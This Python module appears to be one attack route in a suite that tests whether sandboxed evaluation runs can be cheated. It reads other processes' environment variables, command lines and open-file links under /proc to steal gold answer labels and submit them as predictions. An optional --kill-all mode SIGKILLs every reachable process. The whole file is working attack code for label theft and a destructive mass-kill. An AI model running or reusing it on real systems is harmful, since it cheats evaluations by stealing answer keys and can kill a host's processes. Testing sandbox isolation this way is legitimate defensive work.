"""Route class: other processes (their environment, command lines, open files; signals).

Reads ``/proc/*/environ`` and ``/proc/*/cmdline`` of every process it can see for labels a
pipeline process might carry (a ``W2S_GOLD_LABELS`` variable, a ``--gold-file=PATH`` argument,
whose file it then reads), and ``/proc/*/fd/*`` links to label tables. Then it signals: the pid
given with ``--signal-pid PID`` (SIGTERM), and with ``--kill-all`` every process it can reach
(``kill(-1, SIGKILL)``, then each pid in ``/proc``). ``--kill-all`` is for jailed runs only:
run as root on a host it would kill the machine's processes. ``--only-pid PID`` limits the
reading to one process (the suite's unjailed demonstration reads only its decoy, not the
machine's other processes).

As an ``external`` script: ``python3 proc_thief.py {inputs} {outputs} _ext.py [--signal-pid PID]
[--kill-all]``; as a plugin, through ``attacks.omnivore`` (without the signals).
"""
from __future__ import annotations

import json
import os
import signal
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
try:
    from attacks import _ext
except ImportError:
    import _ext


def _pids() -> list[int]:
    return [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]


def _read(path: str) -> bytes:
    try:
        with open(path, "rb") as handle:
            return handle.read()
    except OSError:
        return b""


def find(wanted: set[str], only: int | None = None) -> dict[str, int]:
    found: dict[str, int] = {}
    for pid in [only] if only is not None else _pids():
        for item in _read(f"/proc/{pid}/environ").split(b"\0"):
            name, _, value = item.partition(b"=")
            if b"GOLD" in name or b"LABEL" in name:
                try:
                    _ext.labels_in_mapping(json.loads(value), wanted, found)
                except ValueError:
                    pass
        paths = []
        for arg in _read(f"/proc/{pid}/cmdline").decode(errors="replace").split("\0"):
            if "gold" in arg or "label" in arg:
                paths.append(arg.partition("=")[2] or arg)
        try:
            paths += [os.readlink(f"/proc/{pid}/fd/{fd}") for fd in os.listdir(f"/proc/{pid}/fd")]
        except OSError:
            pass
        for path in paths:
            if path.endswith(_ext.TABLE_SUFFIXES) and os.path.isfile(path):
                try:
                    _ext.labels_in_rows(_ext.table_rows(path), wanted, found)
                except Exception:  # noqa: BLE001 - unreadable: try the next file
                    pass
    return found


def send_signals(argv: list[str]) -> None:
    if "--signal-pid" in argv:
        try:
            os.kill(int(argv[argv.index("--signal-pid") + 1]), signal.SIGTERM)
        except OSError:
            pass
    if "--kill-all" in argv:
        try:
            os.kill(-1, signal.SIGKILL)  # Linux spares the caller and init
        except OSError:
            pass
        for pid in _pids():
            if pid != 1:
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass


def main(argv: list[str]) -> None:
    inputs, outputs = argv[1], argv[2]
    ids, _ = _ext.test_split(inputs)
    only = int(argv[argv.index("--only-pid") + 1]) if "--only-pid" in argv else None
    found = find(set(ids), only)
    _ext.write_predictions(outputs, ids, _ext.predictions(ids, found))
    send_signals(argv)


if __name__ == "__main__":
    main(sys.argv)
